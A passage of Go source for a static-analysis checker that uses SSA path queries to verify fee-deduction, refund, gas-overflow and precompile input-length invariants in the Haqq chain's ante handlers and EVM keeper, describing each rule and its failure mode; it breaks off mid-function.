		isEff := isCallMatching(func(ci CallInfo) bool { return ci.Name == "GetEffectiveFee" })
		isCmp := isCallMatching(func(ci CallInfo) bool {
			if ci.Name != "LT" {
				return false
			}
			a := callArgs(ci.Instr)
			return len(a) == 2 && depMinPrice(backSlice(a[1]))
		})
		okEff := len(legacy) > 0
		var wit []string
		for _, b := range assertOkBlocks(as) {
			if w := (PathQuery{Fn: fn, StartBlock: b, Block: isEff, Target: isCmp, DelEdge: edgeSet(legacy)}).Search(); w != nil {
				okEff = false
				wit = P.witness(w)
			}
		}
		r.Check(okEff, "R2", fnID(fn)+"#non-legacy-compares-effective-fee", P.Pos(fnPos(fn)), "for every non-legacy tx the floor is compared with GetEffectiveFee(baseFee)",
			"a dynamic-fee / access-list tx can reach the floor comparison with its declared fee (fee cap × gas) instead of its effective fee: VerifyFee later deducts only the effective fee, so with a low base fee the tx is accepted while paying less than gasLimit × MinGasPrice", wit...)
	} else {
		r.Bad("R2", "anchor/EthMinGasPriceDecorator.AnteHandle", "", "not found")
	}

	// ---- R7: the refund cap follows the fork rules ----
	r.Rule("R7", "FLOW/PATH.refund-quotient-by-fork: in ApplyMessageWithConfig the quotient handed to GasToRefund is one of the two go-ethereum constants (RefundQuotient, RefundQuotientEIP3529) and the EIP-3529 one is chosen exactly on the edge on which ChainConfig.IsLondon(block number) is true — not on a fee-market switch (NoBaseFee), a parameter or a flag of the VM config: 'gas consumed after refunds' is defined by the fork rules alone")
	if am, ok := P.FnOK("(*x/evm/keeper.Keeper).ApplyMessageWithConfig"); ok {
		nR := 0
		eachCall(am, func(ci CallInfo) {
			if ci.Name != "GasToRefund" {
				return
			}
			nR++
			a := callArgs(ci.Instr)
			q := a[len(a)-1]
			// the quotient is a phi over constants; the block that selects the EIP-3529 value is entered over the IsLondon edge
			okConsts, okFork := false, false
			if phi, ok := stripValue(q).(*ssa.Phi); ok {
				okConsts = true
				for _, e := range phi.Edges {
					if _, isC := e.(*ssa.Const); !isC {
						okConsts = false
					}
				}
				// every If that chooses between the phi's incoming edges derives from IsLondon, and one exists
				nDec := 0
				okFork = true
				for _, b := range am.Blocks {
					ifi, ok := lastIf(b)
					if !ok || len(b.Succs) != 2 {
						continue
					}
					toPhi := 0
					for _, sc := range b.Succs {
						if sc == phi.Block() {
							toPhi++
						}
						for _, pb := range phi.Block().Preds {
							if sc == pb && len(pb.Instrs) <= 2 {
								toPhi++
							}
						}
					}
					if toPhi == 2 {
						nDec++
						if !backSlice(ifi.Cond).HasCall(func(g CallInfo) bool { return g.Name == "IsLondon" }) {
							okFork = false
						}
					}
				}
				if nDec == 0 {
					okFork = false
				}
			}
			r.Check(okConsts && okFork, "R7", fnID(am)+"#refund-quotient-by-fork", P.Pos(instrPos(ci.Instr)), "quotient = IsLondon ? RefundQuotientEIP3529 : RefundQuotient",
				"the refund quotient handed to GasToRefund is not selected by ChainConfig.IsLondon(block number) between the two go-ethereum constants: for some configuration (e.g. London active with the fee market's NoBaseFee set) refunds are capped by the wrong rule and gasUsed differs from the EVM gas consumed after refunds")
		})
		r.Floor("R7", "GasToRefund calls in ApplyMessageWithConfig", nR, 1)
	} else {
		r.Bad("R7", "anchor/ApplyMessageWithConfig", "", "not found")
	}

	// ---- R6: the floor itself is not rounded down ----
	r.Rule("R6", "SHAPE.floor-not-rounded-down: in MinGasPriceDecorator and EthMinGasPriceDecorator neither the required fee that the transaction's fee is compared with, nor the price whose IsZero() opens the bypass, passes through a rounding-down operation (Truncate*, QuoTruncate*, Floor): gasLimit × MinGasPrice is a lower bound, so it may only be rounded up (Ceil) — a truncated price admits fees below the floor and, for a price below 1, switches the floor off")
	for _, id := range []string{"(app/ante/cosmos.MinGasPriceDecorator).AnteHandle", "(app/ante/evm.EthMinGasPriceDecorator).AnteHandle"} {
		fn, ok := P.FnOK(id)
		if !ok {
			continue
		}
		roundsDown := func(sl *Slice) string {
			hit := ""
			sl.Any(func(v ssa.Value) bool {
				if c, ok := v.(*ssa.Call); ok {
					n := callInfo(c).Name
					if strings.HasPrefix(n, "Truncate") || strings.Contains(n, "QuoTruncate") || n == "Floor" {
						hit = n + " at " + P.Pos(instrPos(c))
						return true
					}
				}
				return false
			})
			return hit
		}
		bad := ""
		nCmp := 0
		eachCall(fn, func(ci CallInfo) {
			a := callArgs(ci.Instr)
			switch ci.Name {
			case "IsAnyGTE", "LT", "GTE", "IsAllGTE":
				if len(a) == 2 {
					for _, x := range a {
						sl := backSlice(x)
						if depMinPrice(sl) {
							nCmp++
							if h := roundsDown(sl); h != "" {
								bad = h
							}
						}
					}
				}
			case "IsZero":
				if len(a) >= 1 && depMinPrice(backSlice(a[0])) {
					if h := roundsDown(backSlice(a[0])); h != "" {
						bad = h
					}
				}
			}
		})
		r.Check(bad == "" && nCmp > 0, "R6", fnID(fn)+"#floor-not-rounded-down", P.Pos(fnPos(fn)), "required fee and bypass test use the unrounded minimum gas price (rounded up at most)",
			"the minimum-gas-price floor is rounded down ("+bad+") before it is compared / tested for zero: a fee below gasLimit × MinGasPrice is accepted whenever the price has a fractional part")
	}

	// ---- CanTransferDecorator ----
	if fn, ok := P.FnOK("(app/ante/evm.CanTransferDecorator).AnteHandle"); ok {
		next := nextCallPred(fn)
		as := typeAssertsTo(fn, "x/evm/types", "MsgEthereumTx")
		target := func(in ssa.Instruction) bool {
			if next(in) {
				return true
			}
			for _, b := range assertOkBlocks(as) {
				if reentersLoop(b)(in) {
					return true
				}
			}
			return false
		}
		_, notLondon := guardPassEdges(fn, func(cond ssa.Value) (bool, bool) {
			_, ok := callNamed(cond, "IsLondon")
			return true, ok
		})
		requireGuardFrom(r, "R2", fnID(fn)+"#feecap-vs-basefee", fn, assertOkBlocks(as), func(cond ssa.Value) (bool, bool) {
			c, ok := cmpLessZero(cond)
			if !ok {
				return false, false
			}
			a := callArgs(c)
			okDeps := backSlice(a[0]).HasCall(func(ci CallInfo) bool { return ci.Name == "GasFeeCap" }) && backSlice(a[1]).HasCall(func(ci CallInfo) bool { return ci.Name == "GetBaseFee" })
			return false, okDeps
		}, notLondon, target, "each message passes only where gasFeeCap >= base fee (bypass: pre-London)", "an Ethereum transaction whose fee cap is below the base fee can pass CanTransferDecorator")
	} else {
		r.Bad("R2", "anchor/CanTransferDecorator.AnteHandle", "", "not found")
	}

	// ---- VerifyFee ----
	if fn, ok := P.FnOK("x/evm/keeper.VerifyFee"); ok {
		nilBase, _ := guardPassEdges(fn, func(cond ssa.Value) (bool, bool) {
			b, ok := cond.(*ssa.BinOp)
			if !ok || (b.Op != token.EQL && b.Op != token.NEQ) || !isNilConst(b.Y) || !isParam(b.X, "baseFee") {
				return false, false
			}
			return b.Op == token.EQL, true
		})
		requireGuard(r, "R2", fnID(fn)+"#feecap-vs-basefee", fn, func(cond ssa.Value) (bool, bool) {
			c, ok := cmpLessZero(cond)
			if !ok {
				return false, false
			}
			a := callArgs(c)
			return false, backSlice(a[0]).HasCall(func(ci CallInfo) bool { return ci.Name == "GetGasFeeCap" }) && isParam(a[1], "baseFee")
		}, nilBase, func(in ssa.Instruction) bool { return isExitKind(in, ExitSuccess) }, "fees returned only where gasFeeCap >= baseFee (bypass: no base fee)", "VerifyFee can succeed for a transaction whose fee cap is below the base fee")
		// returned fee = EffectiveFee(baseFee) in denom
		okFee := false
		eachInstr(fn, func(in ssa.Instruction) {
			if ret, ok := in.(*ssa.Return); ok && classifyExit(ret) == ExitSuccess {
				s := backSlice(ret.Results[0])
				if s.HasCall(func(ci CallInfo) bool { return ci.Name == "EffectiveFee" }) && s.HasParam("denom") {
					okFee = true
				}
			}
		})
		r.Check(okFee, "R2", fnID(fn)+"#returns-effective-fee", P.Pos(fnPos(fn)), "returns EffectiveFee(baseFee) in the EVM denom", "VerifyFee no longer returns txData.EffectiveFee(baseFee) in the given denom")
	} else {
		r.Bad("R2", "anchor/VerifyFee", "", "not found")
	}

	// ---- EthGasConsumeDecorator ----
	if fn, ok := P.FnOK("(app/ante/evm.EthGasConsumeDecorator).AnteHandle"); ok {
		next := nextCallPred(fn)
		as := typeAssertsTo(fn, "x/evm/types", "MsgEthereumTx")
		var verify ssa.CallInstruction
		isVerify := isCallMatching(func(ci CallInfo) bool {
			if ci.Name == "VerifyFee" && ci.Static != nil && errHandled(ci.Instr) && backSlice(argN(ci.Instr, 2)).HasCall(func(g CallInfo) bool { return g.Name == "GetBaseFee" }) {
				verify = ci.Instr
				return true
			}
			return false
		})
		isDeduct := isCallMatching(func(ci CallInfo) bool {
			if ci.Name != "deductFee" || ci.Static == nil || !errHandled(ci.Instr) || verify == nil {
				return false
			}
			fees := stripValue(argN(ci.Instr, 1))
			e, ok := fees.(*ssa.Extract)
			if !ok || e.Tuple != verify.Value() || e.Index != 0 {
				return false
			}
			return backSlice(argN(ci.Instr, 2)).HasCall(func(g CallInfo) bool { return g.Name == "GetFrom" })
		})
		for i, sb := range assertOkBlocks(as) {
			tgt := func(in ssa.Instruction) bool { return next(in) || reentersLoop(sb)(in) }
			w := PathQuery{Fn: fn, StartBlock: sb, Block: isVerify, Target: func(in ssa.Instruction) bool { return tgt(in) || isDeduct(in) }}.Search()
			r.Check(w == nil, "R2", fmt.Sprintf("%s#verify-before-deduct-%d", fnID(fn), i+1), P.Pos(fnPos(fn)), "VerifyFee (with the keeper's base fee) precedes deduction and next", "a message can be charged or passed on without VerifyFee(txData, denom, GetBaseFee(...))", P.witness(w)...)
			w = PathQuery{Fn: fn, StartBlock: sb, Block: isDeduct, Target: tgt}.Search()
			r.Check(w == nil, "R2", fmt.Sprintf("%s#deducts-verified-fee-%d", fnID(fn), i+1), P.Pos(fnPos(fn)), "the fee returned by VerifyFee is deducted from msg.GetFrom() before next / the next message", "a message can pass without deducting exactly the fee VerifyFee returned from its sender", P.witness(w)...)
		}
		r.Floor("R2", "MsgEthereumTx assertions in EthGasConsumeDecorator", len(as), 1)
		// deductFee → DeductTxCostsFromUserBalance
		if df, ok := P.FnOK("(app/ante/evm.EthGasConsumeDecorator).deductFee"); ok {
			isD := isCallMatching(func(ci CallInfo) bool {
				return ci.Name == "DeductTxCostsFromUserBalance" && errHandled(ci.Instr) && isParam(argN(ci.Instr, 1), "fees")
			})
			zero, _ := guardPassEdges(df, func(cond ssa.Value) (bool, bool) {
				c, ok := callNamed(cond, "IsZero")
				return true, ok && isParam(callArgs(c)[0], "fees")
			})
			w := PathQuery{Fn: df, Block: isD, Target: isSuccessExit, DelEdge: edgeSet(zero)}.Search()
			r.Check(w == nil, "R2", fnID(df)+"#deducts", P.Pos(fnPos(df)), "success only after DeductTxCostsFromUserBalance(fees) unless fees are zero", "deductFee can succeed without deducting the fees", P.witness(w)...)
		}
	} else {
		r.Bad("R2", "anchor/EthGasConsumeDecorator.AnteHandle", "", "not found")
	}

	// ---- cosmos DeductFeeDecorator ----
	if fn, ok := P.FnOK("(app/ante/cosmos.DeductFeeDecorator).AnteHandle"); ok {
		next := nextCallPred(fn)
		sim := paramBoolEdges(fn, "simulate")
		isChecker := func(in ssa.Instruction) bool {
			c, ok := in.(ssa.CallInstruction)
			if !ok || c.Common().StaticCallee() != nil || c.Common().IsInvoke() {
				return false
			}
			return backSlice(c.Common().Value).HasField("DeductFeeDecorator", "txFeeChecker") && errHandled(c)
		}
		w := PathQuery{Fn: fn, Block: isChecker, Target: next, DelEdge: edgeSet(sim)}.Search()
		r.Check(w == nil, "R2", fnID(fn)+"#fee-checker", P.Pos(fnPos(fn)), "next only after the configured TxFeeChecker (bypass: simulate)", "a Cosmos transaction can reach the next decorator without the fee checker (base-fee / priority rules)", P.witness(w)...)
		isDeduct := isCallMatching(func(ci CallInfo) bool {
			if ci.Name != "deductFee" || ci.Static == nil || !errHandled(ci.Instr) {
				return false
			}
			s := backSlice(argN(ci.Instr, 2))
			return s.Any(func(v ssa.Value) bool { _, ok := v.(*ssa.Extract); return ok }) || s.HasCall(func(g CallInfo) bool { return g.Name == "GetFee" })
		})
		w = PathQuery{Fn: fn, Block: isDeduct, Target: next}.Search()
		r.Check(w == nil, "R2", fnID(fn)+"#deducts", P.Pos(fnPos(fn)), "next only after deductFee", "a Cosmos transaction can reach the next decorator without fee deduction", P.witness(w)...)
	} else {
		r.Bad("R2", "anchor/cosmos.DeductFeeDecorator.AnteHandle", "", "not found")
	}

	// ---- dynamic fee checker ----
	if nf, ok := P.FnOK("app/ante/evm.NewDynamicFeeChecker"); ok && len(nf.AnonFuncs) >= 1 {
		fn := nf.AnonFuncs[0]
		requireGuard(r, "R2", fnID(fn)+"#feecap-vs-basefee", fn, func(cond ssa.Value) (bool, bool) {
			c, ok := callNamed(cond, "LT")
			if !ok {
				return false, false
			}
			a := callArgs(c)
			okDeps := backSlice(a[0]).HasCall(func(ci CallInfo) bool { return ci.Name == "GetFee" }) && backSlice(a[1]).HasCall(func(ci CallInfo) bool { return ci.Name == "GetBaseFee" })
			return false, okDeps
		}, nil, func(in ssa.Instruction) bool {
			ret, ok := in.(*ssa.Return)
			if !ok || classifyExit(ret) != ExitSuccess {
				return false
			}
			return backSlice(ret.Results[0]).HasCall(func(ci CallInfo) bool { return ci.Name == "EffectiveGasPrice" })
		}, "the effective fee is returned only where fee/gas >= base fee", "the dynamic fee checker can accept a Cosmos transaction whose gas price is below the base fee")
	} else {
		r.Bad("R2", "anchor/NewDynamicFeeChecker", "", "not found")
	}

	// ---------- R3 ----------
	if at, ok := P.FnOK("(*x/evm/keeper.Keeper).ApplyTransaction"); ok {
		var ctxParam *ssa.Parameter
		for _, p := range at.Params {
			if p.Name() == "ctx" {
				ctxParam = p
			}
		}
		isRefund := isCallMatching(func(ci CallInfo) bool {
			if ci.Name != "RefundGas" || ci.Static == nil || !errHandled(ci.Instr) {
				return false
			}
			if stripValue(argN(ci.Instr, 0)) != ssa.Value(ctxParam) {
				return false
			}
			b, ok := argN(ci.Instr, 2).(*ssa.BinOp)
			if !ok || b.Op != token.SUB {
				return false
			}
			_, okGas := callNamed(b.X, "Gas")
			return okGas && backSlice(b.Y).HasField("MsgEthereumTxResponse", "GasUsed")
		})
		w := Precedes(at, isRefund, isSuccessExit, nil)
		r.Check(w == nil, "R3", fnID(at)+"#refund-on-success", P.Pos(fnPos(at)), "every success exit passes RefundGas(ctx, msg, msg.Gas()-res.GasUsed, denom)", "ApplyTransaction can succeed without refunding the leftover gas (on the outer context) — the sender would pay the full up-front deduction", P.witness(w)...)
	} else {
		r.Bad("R3", "anchor/ApplyTransaction", "", "not found")
	}
	if rg, ok := P.FnOK("(*x/evm/keeper.Keeper).RefundGas"); ok {
		collector, _ := P.constOf("github.com/cosmos/cosmos-sdk/x/auth/types", "FeeCollectorName")
		n := 0
		eachCall(rg, func(ci CallInfo) {
			if ci.Name != "SendCoinsFromModuleToAccount" {
				return
			}
			n++
			mod, okm := constString(argN(ci.Instr, 1))
			to := backSlice(argN(ci.Instr, 2)).HasCall(func(g CallInfo) bool { return g.Name == "From" })
			amt := backSlice(argN(ci.Instr, 3))
			okAmt := amt.HasParam("leftoverGas") && amt.HasCall(func(g CallInfo) bool { return g.Name == "GasPrice" }) && amt.HasParam("denom")
			r.Check(okm && mod == collector && to && okAmt && errHandled(ci.Instr), "R3", fnID(rg)+"#pays-sender-from-collector", P.Pos(instrPos(ci.Instr)), "fee collector → msg.From(): leftoverGas × GasPrice in denom",
				"the refund is not SendCoinsFromModuleToAccount(fee collector → msg.From(), leftoverGas × msg.GasPrice() in the EVM denom) with its error checked")
		})
		r.Floor("R3", "refund transfers in RefundGas", n, 1)
		// positive remaining ⇒ transfer on every success path
		isSend := isCallMatching(func(ci CallInfo) bool { return ci.Name == "SendCoinsFromModuleToAccount" })
		pos, _ := guardPassEdges(rg, func(cond ssa.Value) (bool, bool) {
			b, ok := cond.(*ssa.BinOp)
			if !ok || b.Op != token.EQL {
				return false, false
			}
			n, okc := constInt(b.Y)
			_, oks := callNamed(b.X, "Sign")
			return true, okc && n == 1 && oks
		})
		okPos := len(pos) > 0
		for _, e := range pos {
			if w := (PathQuery{Fn: rg, StartBlock: e.From.Succs[e.Succ], Block: isSend, Target: isSuccessExit}).Search(); w != nil {
				okPos = false
			}
		}
		r.Check(okPos, "R3", fnID(rg)+"#positive-remaining-is-paid", P.Pos(fnPos(rg)), "a positive remaining amount is always transferred", "RefundGas can succeed with a positive remaining amount without transferring it")
	} else {
		r.Bad("R3", "anchor/RefundGas", "", "not found")
	}

	// ---------- R4 ----------
	// sibling agreement: Haqq's EffectiveGasPrice (used for the up-front deduction) must be geth's formula
	// min(tipCap + baseFee, feeCap) that AsMessage uses for msg.GasPrice() (the refund price)
	if eg, ok := P.FnOK("x/evm/types.EffectiveGasPrice"); ok {
		nRet, okShape := 0, true
		eachInstr(eg, func(in ssa.Instruction) {
			ret, isR := in.(*ssa.Return)
			if !isR {
				return
			}
			nRet++
			c, isC := ret.Results[0].(*ssa.Call)
			if !isC || callInfo(c).Name != "BigMin" || len(c.Call.Args) != 2 {
				okShape = false
				return
			}
			isSum := func(v ssa.Value) bool {
				a, isA := v.(*ssa.Call)
				if !isA || callInfo(a).Name != "Add" {
					return false
				}
				s := backSlice(callArgs(a)[1:]...)
				return s.HasParam("tipCap") && s.HasParam("baseFee") && !s.HasParam("feeCap")
			}
			a0, a1 := c.Call.Args[0], c.Call.Args[1]
			if !((isSum(a0) && isParam(a1, "feeCap")) || (isSum(a1) && isParam(a0, "feeCap"))) {
				okShape = false
			}
		})
		r.Check(okShape && nRet == 1, "R4", fnID(eg)+"#same-formula-as-geth", P.Pos(fnPos(eg)), "single return BigMin(tipCap + baseFee, feeCap)",
			"EffectiveGasPrice is no longer the single expression min(tipCap + baseFee, feeCap): the price used for the up-front deduction (VerifyFee/EffectiveFee) can differ from the price go-ethereum's AsMessage computes for the refund, so the sender's net payment is not gasUsed × one price")
	} else {
		r.Bad("R4", "anchor/EffectiveGasPrice", "", "x/evm/types.EffectiveGasPrice not found")
	}
	if ec, ok := P.FnOK("(*x/evm/keeper.Keeper).EVMConfig"); ok {
		okBF := false
		eachInstr(ec, func(in ssa.Instruction) {
			if st, ok := in.(*ssa.Store); ok {
				if sn, f, ok := fieldOfAddr(st.Addr); ok && sn == "EVMConfig" && f == "BaseFee" {
					okBF = backSlice(st.Val).HasCall(func(ci CallInfo) bool { return ci.Name == "GetBaseFee" })
				}
			}
		})
		r.Check(okBF, "R4", fnID(ec)+"#base-fee-source", P.Pos(fnPos(ec)), "EVMConfig.BaseFee = GetBaseFee(...)", "EVMConfig.BaseFee no longer comes from Keeper.GetBaseFee: the price charged at execution can differ from the price verified in the ante handler")
	} else {
		r.Bad("R4", "anchor/EVMConfig", "", "not found")
	}
	if at, ok := P.FnOK("(*x/evm/keeper.Keeper).ApplyTransaction"); ok {
		okMsg := false
		eachCall(at, func(ci CallInfo) {
			if ci.Name == "AsMessage" {
				s := backSlice(argN(ci.Instr, 1))
				okMsg = s.HasField("EVMConfig", "BaseFee") && s.HasCall(func(g CallInfo) bool { return g.Name == "EVMConfig" })
			}
		})
		r.Check(okMsg, "R4", fnID(at)+"#message-price-source", P.Pos(fnPos(at)), "tx.AsMessage(signer, cfg.BaseFee) with cfg from EVMConfig", "the core message's gas price is not derived from EVMConfig(...).BaseFee")
	}
	if am, ok := P.FnOK("(*x/evm/keeper.Keeper).ApplyMessageWithConfig"); ok {
		n := 0
		eachInstr(am, func(in ssa.Instruction) {
			st, ok := in.(*ssa.Store)
			if !ok {
				return
			}
			if sn, f, ok := fieldOfAddr(st.Addr); ok && sn == "MsgEthereumTxResponse" && f == "GasUsed" {
				n++
				s := backSlice(st.Val)
				deps := map[string]bool{
					"GetMinGasMultiplier": s.HasCall(func(ci CallInfo) bool { return ci.Name == "GetMinGasMultiplier" }),
					"msg.Gas()":           s.HasCall(func(ci CallInfo) bool { return ci.Name == "Gas" }),
					"evm.Call/Create leftover": s.HasCall(func(ci CallInfo) bool { return (ci.Name == "Call" || ci.Name == "Create") && ci.Recv == "EVM" }),
					"GasToRefund":         s.HasCall(func(ci CallInfo) bool { return ci.Name == "GasToRefund" }),
				}
				var missing []string
				for k, v := range deps {
					if !v {
						missing = append(missing, k)
					}
				}
				r.Check(len(missing) == 0, "R4", fnID(am)+"#gas-used-deps", P.Pos(instrPos(in)), "GasUsed = f(min-gas multiplier, gas limit, EVM leftover, refund)", fmt.Sprintf("MsgEthereumTxResponse.GasUsed no longer depends on %v", missing))
			}
		})
		r.Floor("R4", "GasUsed stores in ApplyMessageWithConfig", n, 1)
		// the min-gas floor is applied last: the stored value is MaxDec(floor, evm gas) through conversions only
		eachInstr(am, func(in ssa.Instruction) {
			st, ok := in.(*ssa.Store)
			if !ok {
				return
			}
			if sn, f, ok := fieldOfAddr(st.Addr); !ok || sn != "MsgEthereumTxResponse" || f != "GasUsed" {
				return
			}
			v := st.Val
			okChain := false
			for depth := 0; depth < 6; depth++ {
				c, isC := v.(*ssa.Call)
				if !isC {
					break
				}
				ci := callInfo(c)
				if ci.Name == "LegacyMaxDec" || ci.Name == "MaxDec" {
					a := c.Call.Args
					if len(a) == 2 {
						s0, s1 := backSlice(a[0]), backSlice(a[1])
						isFloor := func(s *Slice) bool {
							return s.HasCall(func(g CallInfo) bool { return g.Name == "GetMinGasMultiplier" }) && s.HasCall(func(g CallInfo) bool { return g.Name == "Gas" })
						}
						isEvm := func(s *Slice) bool {
							return s.HasCall(func(g CallInfo) bool { return g.Name == "GasToRefund" }) && s.HasCall(func(g CallInfo) bool { return (g.Name == "Call" || g.Name == "Create") && g.Recv == "EVM" })
						}
						okChain = (isFloor(s0) && isEvm(s1)) || (isFloor(s1) && isEvm(s0))
					}
					break
				}
				args := callArgs(c)
				if len(args) != 1 {
					break
				}
				v = args[0]
			}
			r.Check(okChain, "R4", fnID(am)+"#floor-applied-last", P.Pos(instrPos(in)), "GasUsed = MaxDec(gasLimit × minGasMultiplier, evmGas − refund) converted, nothing subtracted afterwards",
				"GasUsed is not directly max(minimum gas used, EVM gas after refunds): something is applied after the floor (or the floor/refund operands changed), so the charged gas can fall below minGasMultiplier × gasLimit")
		})
		// overflow guards: msg.Gas() < leftoverGas → error, at least twice (after the call and before gasUsed)
		_, viol := guardPassEdges(am, func(cond ssa.Value) (bool, bool) {
			b, ok := cond.(*ssa.BinOp)
			if !ok || b.Op != token.LSS {
				return false, false
			}
			_, okg := callNamed(b.X, "Gas")
			return false, okg
		})
		r.Check(len(viol) >= 2, "R4", fnID(am)+"#gas-overflow-guards", P.Pos(fnPos(am)), "msg.Gas() < leftoverGas is rejected", "the guards rejecting leftover gas above the gas limit were removed (gas used could underflow)")
	} else {
		r.Bad("R4", "anchor/ApplyMessageWithConfig", "", "not found")
	}
	// ---------- R8: nobody else writes the charged gas; the refund is computed in arbitrary precision ----------
	r.Rule("R8", "OWN.gas-used-single-writer + SHAPE.refund-arbitrary-precision: MsgEthereumTxResponse.GasUsed — the figure the refund and the fee collector's share are computed from — is stored only in ApplyMessageWithConfig (where R4 pins it to max(minGasMultiplier × gasLimit, EVM gas − refund)); RefundGas and the ante-side fee computations (VerifyFee, DeductTxCostsFromUserBalance/deductFee helpers of x/evm/keeper) contain no machine-word multiplication or shift — leftover gas × gas price exceeds 64 bits for gas limits and prices the chain accepts")
	{
		nSt := 0
		for _, fn := range scopesOf(r).S.HaqqFuncs() {
			if isGeneratedFile(P.FileOf(fnPos(outermost(fn)))) || isTestSupport(P, fn) {
				continue
			}
			eachInstr(fn, func(in ssa.Instruction) {
				st, ok := in.(*ssa.Store)
				if !ok {
					return
				}
				if sn, f, ok := fieldOfAddr(st.Addr); !ok || sn != "MsgEthereumTxResponse" || f != "GasUsed" {
					return
				}
				nSt++
				owner := fnID(outermost(fn))
				r.Check(owner == "(*x/evm/keeper.Keeper).ApplyMessageWithConfig", "R8", fnID(fn)+"#writes-GasUsed", P.Pos(instrPos(in)), "the one tabled writer",
					"the charged gas of an Ethereum message is overwritten outside ApplyMessageWithConfig: the refund (gas limit − GasUsed) and the reported gas no longer follow max(minGasMultiplier × gasLimit, EVM gas) — e.g. a failing post-processing hook charging the whole gas limit")
			})
		}
		r.Floor("R8", "stores to MsgEthereumTxResponse.GasUsed in consensus scope", nSt, 1)
		nF := 0
		for _, id := range []string{"(*x/evm/keeper.Keeper).RefundGas", "x/evm/keeper.VerifyFee", "(*x/evm/keeper.Keeper).DeductTxCostsFromUserBalance", "x/evm/keeper.CheckSenderBalance"} {
			fn, ok := P.FnOK(id)
			if !ok {
				r.Bad("R8", "anchor/"+id, "", "not found")
				continue
			}
			nF++
			mw := machineWordOps(P, fn, 1, map[token.Token]bool{token.MUL: true, token.SHL: true}, map[*ssa.Function]bool{})
			r.Check(len(mw) == 0, "R8", fnID(fn)+"#arbitrary-precision", P.Pos(fnPos(fn)), "no machine-word multiplication/shift",
				"machine-word multiplication on a gas × price path ("+strings.Join(mw, "; ")+"): the product wraps modulo 2^64 for large gas limits or prices, so the sender is refunded (or charged) a different amount than gasUsed × price")
		}
		r.Floor("R8", "fee/refund functions examined for machine-word arithmetic", nF, 4)
	}
	r.Rule("R10", "PATH.gas-limits-summed-under-an-overflow-test: the gas limit of an Ethereum transaction is the sum of its messages' gas limits, accumulated in a uint64 by the first eth decorator that sees every message (EthValidateBasicDecorator); that sum is what the wrapper's gas limit, the block-gas checks, CheckTx's gas_wanted and the fee market's gas figure are compared with, while the EVM runs every message with its own limit. In that loop every path to the accumulation passes a comparison of the message's gas with a bound derived from MaxInt64 whose failing side fails the transaction — three messages with limits 2^63−1, 2^63−1 and 100002 otherwise pass everywhere as a 100000-gas transaction and use 9.2e18 gas")
	if vb, ok := P.FnOK("(app/ante/evm.EthValidateBasicDecorator).AnteHandle"); ok {
		nAcc := 0
		for _, h := range vb.Blocks {
			if !isLoopHeader(h) {
				continue
			}
			body := loopBody(h)
			for _, in := range h.Instrs {
				ph, ok := in.(*ssa.Phi)
				if !ok {
					continue
				}
				for i, e := range ph.Edges {
					if !body[h.Preds[i]] {
						continue
					}
					add, ok := stripValue(e).(*ssa.BinOp)
					if !ok || add.Op != token.ADD {
						continue
					}
					other := add.Y
					if stripValue(add.X) != ssa.Value(ph) {
						if stripValue(add.Y) != ssa.Value(ph) {
							continue
						}
						other = add.X
					}
					if !backSlice(other).HasCall(func(g CallInfo) bool { return g.Name == "GetGas" }) {
						continue
					}
					nAcc++
					isTest := func(x ssa.Instruction) bool {
						b, ok := x.(*ssa.BinOp)
						if !ok {
							return false
						}
						switch b.Op {
						case token.LSS, token.LEQ, token.GTR, token.GEQ:
						default:
							return false
						}
						isGas := func(v ssa.Value) bool {
							sl := backSlice(v)
							return sl.HasCall(func(g CallInfo) bool { return g.Name == "GetGas" }) || sl.Has(ph)
						}
						isMax := func(v ssa.Value) bool {
							return backSlice(v).Any(func(y ssa.Value) bool {
								c, ok := y.(*ssa.Const)
								return ok && c.Value != nil && c.Value.Kind().String() == "Int" && (c.Value.ExactString() == "9223372036854775807" || c.Value.ExactString() == "18446744073709551615")
							})
						}
						return ((isGas(b.X) && isMax(b.Y)) || (isGas(b.Y) && isMax(b.X))) && valueBranches(b, 0)
					}
					var w []ssa.Instruction
					for _, sc := range h.Succs {
						if body[sc] && sc != h {
							if p := (PathQuery{Fn: vb, StartBlock: sc, Block: isTest, Target: func(x ssa.Instruction) bool { return x == ssa.Instruction(add) }}).Search(); p != nil {
								w = p
							}
						}
					}
					r.Check(w == nil, "R10", fmt.Sprintf("%s#gas-sum-%d-overflow-tested", fnID(vb), nAcc), P.Pos(instrPos(add)), "every path to the accumulation passes a comparison with a MaxInt64/MaxUint64 bound",
						"the messages' gas limits are added up in a uint64 with no overflow test: a sum that wraps is taken for a small gas limit by every check made on the transaction as a whole, while each message runs with its own (huge) limit — gas used exceeds the gas limit, and the block gas limit", P.witness(w)...)
				}
			}
		}
		r.Floor("R10", "gas-limit accumulations in EthValidateBasicDecorator", nAcc, 1)
	} else {
		r.Bad("R10", "anchor/EthValidateBasicDecorator.AnteHandle", "", "not found")
	}
	r.Rule("R13", "PATH.selector-slices-are-length-guarded: go-ethereum asks a precompile for RequiredGas(input) before Run and hands both the caller's calldata as it came — a plain transfer or an empty inner call carries none. Wherever a precompile's RequiredGas or Run cuts a constant-length prefix out of the input (input[:4]) a test of the input's length dominates the slice: an unguarded slice panics, the panic is recovered only by baseapp, the transaction fails with gas_used 0 and the sender has paid the full gas limit with no refund")
	{
		nS := 0
		for _, fn := range P.Funcs {
			if !strings.Contains(fnPkgPath(fn), "/precompiles/") || strings.Contains(fnPkgPath(fn), "/testutil") || isTestSupport(P, fn) || fn.Synthetic != "" {
				continue
			}
			if fn.Name() != "RequiredGas" && fn.Name() != "Run" {
				continue
			}
			idx := 0
			eachInstr(fn, func(in ssa.Instruction) {
				sl, ok := in.(*ssa.Slice)
				if !ok || sl.High == nil {
					return
				}
				if _, isC := sl.High.(*ssa.Const); !isC {
					return
				}
				if _, isSl := sl.X.Type().Underlying().(*types.Slice); !isSl {
					return
				}
				nS++
				idx++
				base := stripValue(sl.X)
				guarded := false
				for _, b := range fn.Blocks {
					iff, ok := lastIf(b)
					if !ok || b == in.Block() || !dominates(b, in.Block()) {
						continue
					}
					backSlice(iff.Cond).Any(func(v ssa.Value) bool {
						if c, ok := v.(*ssa.Call); ok {
							if bi, ok := c.Call.Value.(*ssa.Builtin); ok && bi.Name() == "len" {
								a := stripValue(c.Call.Args[0])
								if a == base {
									guarded = true
								}
								// two loads of the same field of the same object (contract.Input)
								sa, fa, oka := fieldOfAddr(addrOfLoad(a))
								sb, fb, okb := fieldOfAddr(addrOfLoad(base))
								if oka && okb && sa == sb && fa == fb {
									guarded = true
								}
							}
						}
						return guarded
					})
				}
